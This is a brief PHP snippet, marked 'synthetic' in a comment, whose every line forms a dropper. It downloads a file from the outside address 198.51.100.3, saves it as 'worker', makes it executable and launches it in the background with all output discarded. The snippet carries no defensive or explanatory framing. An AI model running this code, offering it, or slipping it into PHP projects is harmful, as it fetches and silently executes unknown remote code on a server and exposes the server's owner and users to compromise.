<?php
// synthetic: starts a dropped program in the background
file_put_contents('worker', file_get_contents('http://198.51.100.3/w'));
chmod('worker', 0755);
exec('./worker --quiet > /dev/null 2>&1 &');
